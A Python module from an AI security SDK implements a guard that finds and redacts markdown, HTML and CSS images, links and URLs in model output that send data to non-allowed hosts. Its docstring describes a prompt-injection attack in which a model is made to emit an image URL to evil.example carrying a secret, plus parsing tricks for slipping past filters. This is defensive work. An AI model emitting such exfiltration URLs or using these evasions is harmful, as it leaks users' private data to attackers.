"""``exfiltration``: model output that would send data to an outside host (OWASP LLM02).

An injected instruction can make a model write a markdown image such as
``![x](https://evil.example/p.png?d=<secret>)``: the chat UI fetches it without a click and
the query string carries the data away. This guard finds markdown images and links,
reference-style link definitions, HTML ``<img>`` tags and bare URLs in output, and flags
those whose host is not in ``allowed_hosts``:

- images (markdown or HTML, and CSS ``url()`` in ``style`` attributes and ``<style>``
  blocks) to any outside host: they load by themselves;
- links and bare URLs only when they carry data: a query value or a long encoded path
  segment (plain links to documentation do not fire).

The default action ``redact`` keeps the answer and removes the channel: an image becomes
``[image removed]``, a link keeps its text, a bare URL becomes ``[link removed]``.

A destination is read as a browser reads it (WHATWG URL parsing): spaces and controls
around it are dropped, tabs and line breaks inside it too, ``\\`` is ``/`` in an http(s) URL and
any number of slashes (none too) may follow ``https:`` (``https:\\\\evil.test\\p.png`` loads
from ``evil.test``). Markdown destinations are also read with their backslash escapes
undone and CSS ones with their CSS escapes decoded: a host outside ``allowed_hosts`` in
either reading counts.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from fnmatch import fnmatchcase
from typing import ClassVar, NamedTuple
from urllib.parse import parse_qsl, unquote, urlsplit

import regex
from pydantic import field_validator

from aisec_sdk.guards.base import GuardSettings, finding_at, settings_as
from aisec_sdk.text import Text
from aisec_sdk.verdict import Direction, Finding, FindingAction

__all__ = ["ExfiltrationGuard", "ExfiltrationSettings"]

_SCHEME = r"(?:(?i:https?):|[/\\]{2})"  # any slashes or none may follow "https:" (`_web_address`)
_SCRIPT = r"(?i:javascript|vbscript|data):"
_TARGET = _SCHEME + "|" + _SCRIPT
"""What a destination worth reading starts with (relative paths and ``mailto:`` are not)."""
_SCRIPT_SCHEME = regex.compile(_SCRIPT)
_WEB = regex.compile(r"((?i:https?):)?([/\\]*)")
"""The scheme of an http(s) URL and the slashes after it (`_web_address`)."""
_AROUND_URL = "".join(map(chr, range(0x21)))  # C0 controls and space: stripped around a URL
_INSIDE_URL = str.maketrans("", "", "\t\n\r")  # removed from anywhere in a URL
# A URL in HTML or a bare URL: no spaces, parentheses only in balanced pairs.
_URL = _SCHEME + r"(?:[^\s()<>\"'`]|\([^\s()<>\"'`]{0,200}\)){1,4000}"
_SCRIPT_URL = _SCRIPT + r"(?:[^\s()<>]|\([^\s()<>]{0,400}\)){0,4000}"
# Link text: brackets may nest once when they are not an inner link or image ([a [b] c]).
_LABEL = r"(?:[^\[\]\n]|(?<!!)\[[^\[\]\n]{0,200}\](?!\())"
_OPENER = regex.compile(r"(!?)\[(" + _LABEL + r"{0,1000})\]\(")
"""An inline link or image up to the parenthesis of its destination (`_Destinations`)."""
_GAP = regex.compile(r"[ \t]*(?:\n[ \t]*)?")  # spaces, at most one line break
_ANGLED = r"<((?:[^<>\n\\]|\\.){0,4000})>"  # <destination>: may hold spaces
_POINTY = regex.compile(_ANGLED)
# The longest match of `_POINTY` and of `_TITLE` (an escape is two characters): passed as the
# end of the text to match, since ``regex`` otherwise looks for the closing character as far
# as the end of the text on every call (quadratic on a text of many unclosed links).
_POINTY_SPAN = 2 * 4000 + 2
_TITLE_SPAN = 2 * 300 + 2
_RAW = regex.compile(r"[^\x00-\x20\x7f]*")  # a raw destination's characters: no space, control
_PAREN = regex.compile(r"\\[\\()]|[()]")  # a parenthesis, or an escape that is none
_TITLE = regex.compile(
    r"\"(?:[^\"\\\n]|\\.){0,300}\"|'(?:[^'\\\n]|\\.){0,300}'|\((?:[^()\\\n]|\\.){0,300}\)"
)  # a link title: "t", 't' or (t)
_REFERENCE = regex.compile(
    r"(?m)^[ \t]{0,3}\[([^\[\]\n]{1,200})\]:[ \t]*(?:\n[ \t]*)?"
    r"(?:" + _ANGLED + r"|([^\x00-\x20\x7f]{1,4000}))"
)
# ![alt][label], ![label][] and ![label]: images whose URL a reference definition gives
_IMAGE_REFERENCE = regex.compile(r"!\[(" + _LABEL + r"{0,1000})\](?:\[([^\[\]\n]{0,200})\])?")
_HTML = regex.compile(
    r"<([a-z][a-z0-9]{0,20})\b[^<>]{0,2000}?\b(src|srcset|poster|background|data|href"
    r"|action|formaction)\s*=\s*(?:\"([\x00-\x20]*(?:" + _TARGET + r")[^\"]{0,4000})"
    r"|'([\x00-\x20]*(?:" + _TARGET + r")[^']{0,4000})|(" + _URL + "|" + _SCRIPT_URL + "))",
    regex.IGNORECASE,
)
_STYLE = regex.compile(
    r"<(?:(style)\b[^<>]{0,2000}>|[a-z][a-z0-9]{0,20}\b[^<>]{0,2000}?\bstyle\s*=\s*"
    r"(?:\"([^\"]{0,4000})|'([^']{0,4000})|([^\s<>\"'`]{1,4000})))",
    regex.IGNORECASE,
)
"""A ``<style>`` tag, or a ``style`` attribute and its value."""
_STYLE_CLOSE = regex.compile(r"</style", regex.IGNORECASE)
_CSS_ESCAPE = r"\\(?:[0-9A-Fa-f]{1,6}[\t\n\f\r ]?|.)"  # \2f (a space may end it), \/
_CSS_STRING = (
    r"\"((?:[^\"\\\n]|" + _CSS_ESCAPE + r"){0,4000})|'((?:[^'\\\n]|" + _CSS_ESCAPE + r"){0,4000})"
)
_CSS_URL = regex.compile(
    r"(?<![\w-])(?i:url)\([\t\n\f\r ]*(?:"
    + _CSS_STRING
    + r"|((?:[^\"'()\\\x00-\x20]|"
    + _CSS_ESCAPE
    + r"){1,4000}))"
    r"|@(?i:import)[\t\n\f\r ]*(?:" + _CSS_STRING + ")"
)
"""What CSS loads: ``url(...)`` (quoted or not) and ``@import "..."``."""
_CSS_ESCAPES = regex.compile(_CSS_ESCAPE, regex.DOTALL)
_MARKDOWN_ESCAPE = regex.compile(r"\\([!-/:-@\[-`{-~])")
_HTML_LINKS = frozenset({"href", "action", "formaction"})  # followed on a click only
_PLACEHOLDER = r"<[A-Z][A-Z0-9_]{0,40}_[0-9]{1,6}>"
"""A pseudonym of `aisec_sdk.vault` (``<EMAIL_1>``): the value comes back after the guards ran."""
_HAS_PLACEHOLDER = regex.compile(_PLACEHOLDER)
_BARE = regex.compile(
    r"(?<![\w(\"'=/])((?i:https?)://(?:[^\s()<>\"'`\[\]]|" + _PLACEHOLDER + r"){1,4000})"
)
_SLUG_PART = regex.compile(r"[a-z0-9]+|[A-Z][a-z0-9]*|[A-Z0-9]+")
_SLUG_SEPARATORS = regex.compile(r"[-_.+]")
_TOKEN = regex.compile(r"[A-Za-z0-9+/=_\-]{24,}")


class ExfiltrationSettings(GuardSettings):
    """Options of the ``exfiltration`` guard."""

    allowed_hosts: tuple[str, ...] = ()
    """Hosts output may point to: ``example.com`` also allows its subdomains; shell-style
    wildcards (``*.cdn.example``) work too."""
    links: bool = True
    """Also check links and bare URLs that carry data (images are always checked)."""

    @field_validator("allowed_hosts")
    @classmethod
    def _hosts(cls, hosts: tuple[str, ...]) -> tuple[str, ...]:
        """Each entry as a host: a URL or ``host:port`` is read as its host
        (``https://acme.example/`` -> ``acme.example``), which is what is compared."""
        read = []
        for entry in hosts:
            try:
                host = urlsplit(entry if "//" in entry else "//" + entry.strip()).hostname
            except ValueError:
                host = None
            if not host:
                raise ValueError(f"{entry!r} names no host; write it as 'acme.example'")
            read.append(host)
        return tuple(read)


class ExfiltrationGuard:
    """Markdown/HTML images, links and URLs in output that leak data to outside hosts."""

    id: ClassVar[str] = "exfiltration"
    category: ClassVar[str] = "LLM02"
    default_directions: ClassVar[tuple[Direction, ...]] = ("output",)
    default_threshold: ClassVar[float] = 0.5
    default_action: ClassVar[FindingAction] = "redact"
    default_enabled: ClassVar[bool] = True
    Settings: ClassVar[type[GuardSettings]] = ExfiltrationSettings

    def __init__(self, settings: GuardSettings) -> None:
        self.settings = settings = settings_as(settings, ExfiltrationSettings)
        self._allowed = tuple(_canonical_host(h) for h in settings.allowed_hosts)

    def scan(self, text: Text, direction: Direction) -> Sequence[Finding]:
        s = text.normalized
        if "//" not in s and ":" not in s and "\\" not in s:
            return []
        found: list[tuple[int, int, str, float, str, str]] = []
        taken: list[tuple[int, int]] = []
        destinations = _Destinations(s)
        at = 0 if "](" in s else len(s)  # tested once: in the loop it read the text per link
        while (m := _OPENER.search(s, at)) is not None:
            link = destinations.after(m.end() - 1)
            if link is None:  # no destination and ")": no link (CommonMark reads it as text)
                at = m.end()
                continue
            span, at = link
            image, label = m.group(1) == "!", m.group(2)
            taken.append((m.start(), at))
            score, why = self._score(text, span, image, _markdown_unescaped)
            if score:
                kind = "image" if image else "link"
                repl = "[image removed]" if image else f"{label} [link removed]".lstrip()
                found.append((m.start(), at, kind, score, why, repl))
        for m in _HTML.finditer(s) if "<" in s else ():
            taken.append(m.span())
            image = m.group(2).lower() not in _HTML_LINKS
            span = _value_span(m, 3, 4, 5)
            score, why = self._score(text, span, image)
            if score:
                kind, repl = ("image", "[image removed]") if image else ("link", "[link removed]")
                found.append((*span, kind, score, why, repl))
        for span in _css_urls(s) if "<" in s else ():
            taken.append(span)
            score, why = self._score(text, span, True, _css_unescaped)
            if score:
                found.append((*span, "image", score, why, "[image removed]"))
        if "]:" in s:
            images = _image_labels(s)
            for m in _REFERENCE.finditer(s):
                taken.append(m.span())
                image = _label(m.group(1)) in images
                span = _value_span(m, 2, 3)
                score, why = self._score(text, span, image, _markdown_unescaped)
                if score:
                    kind, repl = (
                        ("image", "[image removed]") if image else ("link", "[link removed]")
                    )
                    found.append((*span, kind, score, why, repl))
        if self.settings.links and "://" in s:
            taken.sort()
            i, reach = 0, 0  # the furthest end of the spans taken that start at or before m
            for m in _BARE.finditer(s):
                while i < len(taken) and taken[i][0] <= m.start():
                    reach, i = max(reach, taken[i][1]), i + 1
                if m.start() < reach:
                    continue  # inside a link, an image, a tag or a definition already read
                score, why = self._score(text, m.span(1), False)
                if score:
                    found.append((*m.span(1), "url", score * 0.8, why, "[link removed]"))
        return [
            finding_at(
                self,
                text,
                (a, b),
                score,
                f"{kind} {why}",
                replacement=repl,
                entity=kind,
            )
            for a, b, kind, score, why, repl in found
        ]

    def _allowed_host(self, host: str) -> bool:
        return any(
            host == pattern or host.endswith("." + pattern) or fnmatchcase(host, pattern)
            for pattern in self._allowed
        )

    def _score(
        self,
        text: Text,
        span: tuple[int, int],
        image: bool,
        unescaped: Callable[[str], str] | None = None,
    ) -> tuple[float, str]:
        """0 when harmless; else how likely the URL at ``span`` (of the normalised text)
        carries data out or runs code, and why: the higher of its readings as written and,
        when it holds a backslash, with ``unescaped`` undoing its syntax's escapes."""
        a, b = text.span(*span)
        readings = [(text.normalized[span[0] : span[1]], text.original[a:b])]
        if unescaped is not None and "\\" in readings[0][1]:
            readings.append((unescaped(readings[0][0]), unescaped(readings[0][1])))
        return max(self._read(url, original, image) for url, original in readings)

    def _read(self, url: str, original: str, image: bool) -> tuple[float, str]:
        """`_score` of one reading: ``url`` as normalised, ``original`` as written. The host
        is read from the original: a look-alike letter the normalised text folded is another
        host for a browser."""
        url = url.strip(_AROUND_URL).translate(_INSIDE_URL)
        if (script := _SCRIPT_SCHEME.match(url)) is not None:
            scheme = script.group()[:-1].lower()
            if scheme != "data":
                return 0.9, f"runs script ({scheme}: URL)"
            inert = url[5:].lstrip().lower().startswith("image/")
            return (0.0, "") if inert else (0.7, "to active data: content (not an image)")
        address = _web_address(original)
        if address is None:
            return 0.0, ""  # a relative path, mailto:...
        try:
            parts = urlsplit(address)
            host = _canonical_host(parts.hostname or "")
        except ValueError:
            return 0.0, ""
        if not host or self._allowed_host(host):
            return 0.0, ""
        data = (
            _carries_data(parts.query, parts.path)
            or _data_in_host(host)
            or _HAS_PLACEHOLDER.search(url) is not None
        )
        where = f"to an outside host ({host})"
        if image:
            return (0.95, f"{where} carrying data") if data else (0.7, where)
        if not self.settings.links or not data:
            return 0.0, ""
        return 0.85, f"{where} carrying data"


def _web_address(url: str) -> str | None:
    """``url`` as a browser reads an http(s) URL (WHATWG), written ``scheme://...`` for
    `urlsplit`, or None when it names no host (a relative path, ``mailto:``): spaces and
    controls around it and tabs and line breaks in it dropped, ``\\`` read as ``/``, and
    after ``https:`` any number of slashes, none too (``https:evil.test`` is relative on
    an https page, but not on an http one); without a scheme, two slashes or more."""
    url = url.strip(_AROUND_URL).translate(_INSIDE_URL)
    m = _WEB.match(url)
    assert m is not None  # every part of the pattern may be empty
    scheme, slashes = m.group(1), m.group(2)
    if scheme is None and len(slashes) < 2:
        return None
    rest = url[m.end() :].replace("\\", "/")
    return f"{(scheme or 'https:').lower()}//{rest}"


def _markdown_unescaped(destination: str) -> str:
    """A markdown destination with its backslash escapes undone (``\\@`` is ``@``)."""
    return _MARKDOWN_ESCAPE.sub(r"\1", destination)


def _css_unescaped(value: str) -> str:
    """A CSS string or ``url()`` with its escapes decoded (``\\2f `` is ``/``)."""
    return _CSS_ESCAPES.sub(_css_character, value)


def _css_character(m: regex.Match[str]) -> str:
    """The character a CSS escape (`_CSS_ESCAPE`) stands for."""
    escaped = m.group()[1:]
    if escaped[0] not in "0123456789abcdefABCDEF":
        return escaped  # \/ is /
    code = int(escaped, 16)  # int() ignores the space that may end the escape
    return chr(code) if 0 < code <= 0x10FFFF and not 0xD800 <= code <= 0xDFFF else "\ufffd"


def _css_urls(s: str) -> Iterator[tuple[int, int]]:
    """The spans of what CSS loads (`_CSS_URL`) in ``style`` attributes and ``<style>``
    blocks (to the ``</style`` that closes them, or the end of the text)."""
    at = 0
    while (style := _STYLE.search(s, at)) is not None:
        if style.group(1) is None:
            (a, b), at = _value_span(style, 2, 3, 4), style.end()
        else:
            closed = _STYLE_CLOSE.search(s, style.end())
            a, b = style.end(), len(s) if closed is None else closed.start()
            at = b
        for m in _CSS_URL.finditer(s, a, b):
            yield _value_span(m, 1, 2, 3, 4, 5)


def _value_span(m: regex.Match[str], *groups: int) -> tuple[int, int]:
    """The span of the first of ``groups`` that took part in the match."""
    return next(m.span(g) for g in groups if m.group(g) is not None)


def _past(pattern: regex.Pattern[str], s: str, at: int) -> int:
    """Where a match of ``pattern`` (one that may be empty) at ``at`` ends."""
    m = pattern.match(s, at)
    return at if m is None else m.end()


class _Run(NamedTuple):
    """The parentheses of a run of characters without spaces or controls, from ``start``."""

    start: int
    end: int
    closing: dict[int, int]
    """Each "(" that is closed: where its ")" is."""
    unclosed: list[int]
    """Each "(" that is not closed in the run."""
    stray: int | None
    """The first ")" that closes nothing of the run."""


class _Destinations:
    """Inline link destinations as CommonMark reads them: ``<...>`` (no line break, no
    unescaped ``<`` or ``>``), or a run without spaces or control characters whose
    unescaped parentheses balance, at any depth; ``<``, ``>`` and quotes are part of it
    (``?d=<EMAIL_1>``). The parentheses of a run are paired once, whatever number of links
    starts in it, so reading every link of a text is linear."""

    def __init__(self, s: str) -> None:
        self.s = s
        self._run = _Run(0, 0, {}, [], None)

    def _paired(self, start: int) -> _Run:
        """The run holding ``start`` (paired from ``start`` on, or from earlier)."""
        run = self._run
        if not run.start <= start < run.end:
            end = _past(_RAW, self.s, start)
            closing: dict[int, int] = {}
            stack: list[int] = []
            stray = None
            for m in _PAREN.finditer(self.s, start, end):
                if m.group() == "(":
                    stack.append(m.start())
                elif m.group() == ")":
                    if stack:
                        closing[stack.pop()] = m.start()
                    elif stray is None:
                        stray = m.start()
            run = self._run = _Run(start, end, closing, stack, stray)
        return run

    def after(self, opened: int) -> tuple[tuple[int, int], int] | None:
        """The destination's span of the link whose "(" is at ``opened`` and where the link
        ends, or None when no destination and closing ")" follow."""
        s = self.s
        start = _past(_GAP, s, opened + 1)
        if s.startswith("<", start):
            pointy = _POINTY.match(s, start, start + _POINTY_SPAN)
            if pointy is None:
                return None
            span, end = pointy.span(1), pointy.end()
        elif start == opened + 1:  # in the run of the "(": up to the ")" that closes it
            run = self._paired(opened)
            if opened in run.closing:
                return (start, run.closing[opened]), run.closing[opened] + 1
            if run.unclosed[-1] != opened:
                return None  # a "(" after it is never closed
            span, end = (start, run.end), run.end
        else:  # a run of its own: up to a ")" that closes nothing, or all of it
            run = self._paired(start)
            if run.stray is not None:
                return (start, run.stray), run.stray + 1
            if run.unclosed:
                return None
            span, end = (start, run.end), run.end
        end = _past(_GAP, s, end)
        if (title := _TITLE.match(s, end, end + _TITLE_SPAN)) is not None:
            end = _past(_GAP, s, title.end())
        return (span, end + 1) if s.startswith(")", end) else None


def _canonical_host(host: str) -> str:
    """``host`` as a browser resolves it: lower case, no trailing dot, IDNA (punycode)."""
    host = host.lower().rstrip(".")
    if host.isascii():
        return host
    try:
        return host.encode("idna").decode("ascii")
    except UnicodeError:
        return host


def _label(label: str) -> str:
    """A reference label as markdown matches it: case and runs of white space ignored."""
    return " ".join(label.lower().split())


def _image_labels(s: str) -> set[str]:
    """Labels of the reference-style images in ``s``."""
    labels = set()
    for m in _IMAGE_REFERENCE.finditer(s):
        labels.add(_label(m.group(2) or m.group(1)))
    return labels


def _carries_data(query: str, path: str) -> bool:
    """Whether a URL smuggles data: a long or text-like query value, a long query, or an
    encoded-looking path segment (not a readable slug such as ``my-blog-post.html``)."""
    values = [v for _, v in parse_qsl(query, keep_blank_values=True)]
    if len(query) >= 64 or any(len(v) >= 20 for v in values):
        return True
    if any(len(v) >= 8 and (" " in v or "@" in v or "=" in v) for v in values):
        return True
    for segment in path.split("/"):
        encoded = "%40" in segment or "%3d" in segment.lower()  # an e-mail or key=value
        if encoded and len(unquote(segment)) >= 8:
            return True
        for token in _TOKEN.findall(segment):
            mixed = (
                sum(
                    (
                        any(c.isupper() for c in token),
                        any(c.islower() for c in token),
                        any(c.isdigit() for c in token),
                    )
                )
                >= 2
            )
            if mixed and not _slug(token):
                return True
    return False


def _data_in_host(host: str) -> bool:
    """Whether a subdomain label carries data (DNS exfiltration): a run of 20+ letters and
    digits mixing both (not an IDNA label)."""
    for label in host.split(".")[:-2]:
        if label.startswith("xn--"):
            continue
        for part in label.split("-"):
            if len(part) >= 20 and not part.isalpha() and not part.isdigit():
                return True
    return False


def _slug(token: str) -> bool:
    """Readable words joined by ``-``, ``_``, ``.`` (``8-habits-of-great-Bosses``)."""
    parts = [p for p in _SLUG_SEPARATORS.split(token) if p]
    return len(parts) >= 2 and all(_SLUG_PART.fullmatch(p) for p in parts)
